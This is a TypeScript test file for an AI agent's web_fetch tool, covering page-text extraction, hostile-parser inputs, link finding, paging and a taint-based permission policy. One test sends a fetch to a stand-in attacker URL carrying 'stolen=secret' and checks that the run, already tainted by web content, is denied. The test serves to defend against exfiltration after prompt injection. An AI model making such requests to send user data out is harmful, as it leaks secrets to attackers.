import type { Worker } from "node:worker_threads";
import { describe, expect, it, onTestFinished } from "vitest";
import { createWebFetchTool, extractPageText } from "../src/index.ts";
import { FetchError } from "../src/web/errors.ts";
import type { FetchedResource } from "../src/web/guarded-fetch.ts";
import { findLinks } from "../src/web/links.ts";
import { caller } from "./harness.ts";

function page(
  html: string | Uint8Array,
  contentType = "text/html; charset=utf-8",
  url = "https://example.com/a/b",
) {
  return { url, contentType, bytes: typeof html === "string" ? Buffer.from(html) : html };
}

const words = "The quick brown fox jumps over the lazy dog, and then it thinks about it for a while. ".repeat(
  8,
);

describe("the text of a page", () => {
  it("is the article as Markdown with absolute links, without navigation", async () => {
    const { title, text, cut } = await extractPageText(
      page(`<!doctype html><html><head><title>A &amp; B</title><style>p{}</style></head><body>
        <nav><a href="/home">Home</a><a href="/about">About us</a></nav>
        <article><h1>A & B</h1><h2>First</h2><p>${words}</p><p>See <a href="../c?x=1#y">the other (page)</a> and
        <a href="javascript:alert(1)">this</a>. <img src="http://10.0.0.1/x.png" alt="a cat"></p>
        <ul><li>one</li><li>two</li></ul><pre><code>const a = 1;
  b();</code></pre><script>alert("no")</script><p>${words}</p></article>
        <footer>Cookies</footer></body></html>`),
      { parseMs: 60_000 },
    );
    expect(title).toBe("A & B");
    expect(text).toContain("## First");
    expect(text).toContain("[the other (page)](https://example.com/c?x=1#y)");
    expect(text).toContain("[image: a cat]");
    expect(text).toContain("```\nconst a = 1;\n  b();\n```");
    expect(text).toMatch(/- +one/);
    for (const gone of ["alert", "10.0.0.1", "About us", "Cookies", "<"]) expect(text).not.toContain(gone);
    expect(cut).toBe(false);
  });

  it("is cut at its limit, between characters", async () => {
    const { text, cut } = await extractPageText(page("😀".repeat(100), "text/plain"), { maxChars: 11 });
    expect(text.startsWith("😀".repeat(5))).toBe(true);
    expect([text.isWellFormed(), text.length, cut]).toEqual([true, 11, true]);
  });

  it("is the whole text if extracting the article takes too long", async () => {
    const { text, title } = await extractPageText(
      page(`<title>T &lt;</title><script>no()</script><nav>Menu</nav><p>${words}</p><b>&#x4f60;&amp;</b>`),
      { parseMs: 0 },
    );
    expect(title).toBe("T <");
    expect(text).toMatch(/^Menu\s+The quick/);
    expect(text.endsWith("你&")).toBe(true);
  });

  it("contains no HTML comments", async () => {
    const html =
      "<p>one</p><!-- if a > b: <p>hidden</p> --><p>two</p><!---><p>three</p><!-- <p>without end</p>";
    expect((await extractPageText(page(html), { parseMs: 0 })).text.split(/\s+/)).toEqual([
      "one",
      "two",
      "three",
    ]);
  });

  it("is extracted from two pages at a time, and waiting can be aborted", async () => {
    let [running, most, begun] = [0, 0, 0];
    const onWorker = (worker: Worker) => {
      running += 1;
      begun += 1;
      most = Math.max(most, running);
      worker.once("exit", () => {
        running -= 1;
      });
    };
    process.on("worker", onWorker);
    onTestFinished(() => void process.off("worker", onWorker));
    const html = `<html><body><nav>Menu</nav><article><h1>A</h1><p>${words}</p></article></body></html>`;
    const pages = Array.from({ length: 8 }, () => extractPageText(page(html), { parseMs: 50_000 }));
    const stop = new AbortController();
    const stopped = extractPageText(page(html), { parseMs: 50_000, signal: stop.signal });
    stop.abort(new Error("stopped"));
    await expect(stopped).rejects.toThrow("stopped");
    for (const { text } of await Promise.all(pages)) expect(text).not.toContain("Menu");
    expect([most, begun]).toEqual([2, 8]);
  });

  it("is decoded with the page's encoding", async () => {
    const gbk = Buffer.concat([
      Buffer.from('<html><head><meta charset="gbk"></head><body><p>'),
      Buffer.from([0xc4, 0xe3, 0xba, 0xc3]),
      Buffer.from("</p></body></html>"),
    ]);
    expect((await extractPageText(page(gbk, "text/html"))).text).toBe("你好");
    expect((await extractPageText(page(Buffer.from([0xe9]), "text/plain; charset=iso-8859-1"))).text).toBe(
      "é",
    );
    expect((await extractPageText(page("x", "text/plain; charset=no-such-thing"))).text).toBe("x");
    const feed = Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><title>Caf\xe9</title>', "latin1");
    for (const type of ["application/rss+xml", "text/xml", "text/xml; charset=iso-8859-1"])
      expect((await extractPageText(page(feed, type))).text).toContain("Café");
  });

  it("contains no characters that hide or reorder text", async () => {
    const { text } = await extractPageText(page("a\u202Eb\u200Bc\u0000d\u2066e\uFEFF", "text/plain"));
    expect(text).toBe("abcde");
  });

  it("exists for other text types, but not for images and binary files", async () => {
    expect((await extractPageText(page('{"a":[1]}', "application/json"))).text).toBe(
      '{\n "a": [\n  1\n ]\n}',
    );
    expect((await extractPageText(page("{not json", "application/ld+json"))).text).toBe("{not json");
    expect((await extractPageText(page("<a>1</a>", "application/atom+xml"))).text).toBe("<a>1</a>");
    expect((await extractPageText(page("words", ""))).text).toBe("words");
    for (const type of ["image/png", "application/octet-stream", "video/mp4"])
      await expect(extractPageText(page("x", type))).rejects.toThrow(type);
    await expect(extractPageText(page("a\u0000b", ""))).rejects.toBeInstanceOf(FetchError);
  });

  it("is extracted from a PDF page by page with its title, unless it is broken", async () => {
    const { text, title } = await extractPageText(page(pdfOf("Hello from a page."), "application/pdf"), {
      parseMs: 60_000,
    });
    expect(title).toBe("A title");
    expect(text).toBe("[page 1 of 1]\nHello from a page.");
    await expect(extractPageText(page(pdfOf(""), "application/pdf"))).rejects.toThrow("PDF of images");
    await expect(extractPageText(page("%PDF-1.4 nothing", "application/pdf"))).rejects.toThrow(
      "could not be read",
    );
  });

  it("is extracted from pages that try to break parsers", async () => {
    const hostile = [
      `${"<div>".repeat(150_000)}${words}`,
      "<a href=x>".repeat(20_000),
      `<p>${words}</p>`.repeat(2_000),
      "<table><tr><td>".repeat(5_000),
      `<p>${" ".repeat(900_000)}x</p>`,
      `<p>${"&".repeat(900_000)}</p>`,
      `<p>${"<".repeat(900_000)}</p>`,
      `<title${" ".repeat(900_000)}`,
      `<${"a".repeat(900_000)}>${words}`,
      `<p ${"a=1 ".repeat(200_000)}>${words}</p>`,
      `<script>${"</scrip".repeat(100_000)}`,
      `<!--${"-".repeat(900_000)}`,
      `<p>${"[](".repeat(100_000)}</p>`,
      `<p>${"*_`#".repeat(100_000)}</p>`,
      `<p>${",".repeat(900_000)}</p>`,
      `<ul>${"<li>x".repeat(14_000)}</ul>`,
      `<p>${"x<br>".repeat(14_000)}</p>`,
    ];
    for (const html of hostile) {
      const { text } = await extractPageText(page(html), { parseMs: 400 });
      expect(text.length, html.slice(0, 30)).toBeLessThanOrEqual(20_000);
      if (html.includes(words)) expect(text, html.slice(0, 30)).toContain("quick brown fox");
    }
  });
});

it("finds links in text without the surrounding punctuation", () => {
  const text =
    "看 https://example.com/a，还有（https://example.com/b）。 See (https://en.wikipedia.org/wiki/A_(b)), <http://c.example/?q=1&r=2>, https://example.com/a#part and [x](https://d.example/x). ftp://no https:// httpx://no **https://e.example**";
  expect(findLinks(text)).toEqual([
    "https://example.com/a",
    "https://example.com/b",
    "https://en.wikipedia.org/wiki/A_(b)",
    "http://c.example/?q=1&r=2",
    "https://d.example/x",
    "https://e.example",
  ]);
  expect(
    findLinks("https://a.example ".repeat(9).concat("https://b.example https://c.example"), 2),
  ).toHaveLength(2);
  expect(findLinks(`https://a.example/${")".repeat(1_000_000)}`)).toEqual([]);
  // Each bracket is examined once, and the number of repeated links is limited.
  expect(findLinks(`https://a.example/${")".repeat(2_000)} `.repeat(2_000))).toEqual(["https://a.example/"]);
  expect(findLinks("see https://a.example/x_(y)). and [https://b.example/z](b)")).toEqual([
    "https://a.example/x_(y)",
    "https://b.example/z](b)",
  ]);
});

describe("web_fetch", () => {
  const pages: Record<string, FetchedResource> = {
    "https://example.com/": page(
      `<html><head><title>T</title></head><body><p>${words}</p><p><a href="https://example.com/next">next</a></p></body></html>`,
      "text/html",
      "https://example.com/",
    ),
  };
  const asked: string[] = [];
  const tool = () =>
    createWebFetchTool({
      fetch: async (url) => {
        asked.push(url);
        const found = pages[url];
        if (found === undefined) throw new FetchError("network", "There is no such host.");
        return found;
      },
      isKnownLink: (url) => url === "https://given.example/",
    });
  const textOf = (result: Awaited<ReturnType<ReturnType<typeof caller>["call"]>>) =>
    result.content.flatMap((block) => (block.type === "text" ? [block.text] : [])).join("");

  it("does not offer to continue if only the start of the page was parsed", async () => {
    const html = page(`<p>${"word ".repeat(250_000)}</p>`);
    expect(await extractPageText(html, { maxChars: 2_000_000 })).toMatchObject({ cut: true });
    const { call } = caller([createWebFetchTool({ fetch: async () => html })]);
    const url = "https://long.example/";
    const [start, end] = [
      await call("web_fetch", { url }),
      await call("web_fetch", { url, offset: 990_000 }),
    ];
    expect(textOf(start)).toMatch(/\[There is more; continue with offset=\d+\]$/);
    expect(textOf(end)).toMatch(/\[The page is longer; the rest cannot be read\]$/);
  });

  it("knows the links of the last page, however many earlier pages had", async () => {
    const linked = (url: string) => {
      const links = Array.from({ length: 1_500 }, (_, n) => `${url}${n}`);
      return page(["https://b.example/", ...links].join("\n"), "text/plain", url);
    };
    const reader = createWebFetchTool({ fetch: async (url) => linked(url) });
    const { call } = caller([reader], { resultChars: 100_000 });
    const addresses = ["https://a.example/", "https://b.example/", "https://b.example/1400"];
    for (const url of addresses) expect(textOf(await call("web_fetch", { url }))).toContain(`From ${url}`);
    expect(textOf(await call("web_fetch", { url: "https://unseen.example/" }))).toContain("Not allowed");
  });

  it("returns a page in parts and taints the run", async () => {
    // A quarter of a small result is reserved for notes.
    const { call, state } = caller([tool()], { resultChars: 666 });
    const first = await call("web_fetch", { url: "https://example.com/" });
    expect(textOf(first)).toMatch(/^From https:\/\/example\.com\/\nTitle: T\n\nThe quick/);
    expect(textOf(first)).toContain("[There is more; continue with offset=500]");
    expect(state.facts.taint).toEqual([{ source: "web", detail: "web_fetch" }]);
    const second = await call("web_fetch", { url: "https://example.com/", offset: 500 });
    expect(textOf(second)).toContain("[next](https://example.com/next)");
    expect(textOf(await call("web_fetch", { url: "https://example.com/", offset: 5_000 }))).toContain(
      "ends before",
    );
  });

  it("needs approval if a tainted run fetches an unknown address", async () => {
    const { call, records } = caller([tool()]);
    await call("web_fetch", { url: "https://example.com/" });
    await call("web_fetch", { url: "https://example.com/", offset: 500 });
    asked.length = 0;
    await call("web_fetch", { url: "https://evil.example/?stolen=secret" });
    expect(records.at(-1)).toMatchObject({ decision: "deny", rule: "taint_fetch_unseen" });
    expect(asked).toEqual([]);
    await call("web_fetch", { url: "https://example.com/next#part" });
    await call("web_fetch", { url: "https://given.example/" });
    expect(asked).toEqual(["https://example.com/next#part", "https://given.example/"]);
  });

  it("is not available to guests", async () => {
    const { call, records } = caller([tool()], { facts: { role: "guest" } });
    await call("web_fetch", { url: "https://example.com/" });
    expect(records.at(-1)).toMatchObject({ decision: "deny", rule: "role_allow:guest" });
  });
});

/** Creates a PDF of one page without a cross-reference table, which readers reconstruct. */
function pdfOf(words: string): string {
  const stream = words === "" ? "" : `BT /F1 12 Tf 20 100 Td (${words}) Tj ET`;
  return [
    "%PDF-1.4",
    "1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj",
    "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj",
    "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj",
    `4 0 obj<</Length ${stream.length}>>stream\n${stream}\nendstream endobj`,
    "5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj",
    "6 0 obj<</Title(A title)>>endobj",
    "trailer<</Root 1 0 R/Info 6 0 R>>",
    "%%EOF",
  ].join("\n");
}
